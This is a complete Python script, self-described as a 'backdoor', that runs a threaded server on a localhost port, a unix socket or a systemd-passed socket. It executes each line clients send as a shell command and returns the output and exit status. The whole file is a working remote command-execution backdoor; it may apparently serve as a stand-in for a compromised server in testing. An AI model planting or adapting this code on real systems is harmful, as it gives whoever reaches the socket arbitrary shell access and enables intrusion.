#!/usr/bin/python3
"""backdoor [PORT | PATH]: run each line its clients send, and answer with output and status.

A server that was taken over. It listens on a port, a unix socket, or what systemd passed it.
"""

import os
import socket
import socketserver
import subprocess
import sys


class Handler(socketserver.StreamRequestHandler):
    def handle(self) -> None:
        for line in self.rfile:
            ran = subprocess.run(
                ["timeout", "5", "sh", "-c", line.decode()],
                stdin=subprocess.DEVNULL,
                stdout=subprocess.PIPE,
                stderr=subprocess.STDOUT,
                check=False,
            )
            self.wfile.write(
                ran.stdout.replace(b"\0", b"") + f"\nended with status {ran.returncode}\0".encode()
            )


class Server(socketserver.ThreadingMixIn, socketserver.TCPServer):
    daemon_threads = True
    allow_reuse_address = True

    def get_request(self) -> tuple[socket.socket, object]:
        sock, address = self.socket.accept()
        return sock, address or ("", 0)


where = sys.argv[1] if len(sys.argv) > 1 else ""
server = Server(
    ("127.0.0.1", int(where) if where.isdigit() else 0), Handler, bind_and_activate=where.isdigit()
)
if not where.isdigit():
    server.socket.close()
    server.socket = socket.socket(socket.AF_UNIX) if where else socket.socket(fileno=3)
    if where:
        server.socket.bind(where)
        os.chmod(where, 0o600)
        server.socket.listen()
server.serve_forever()
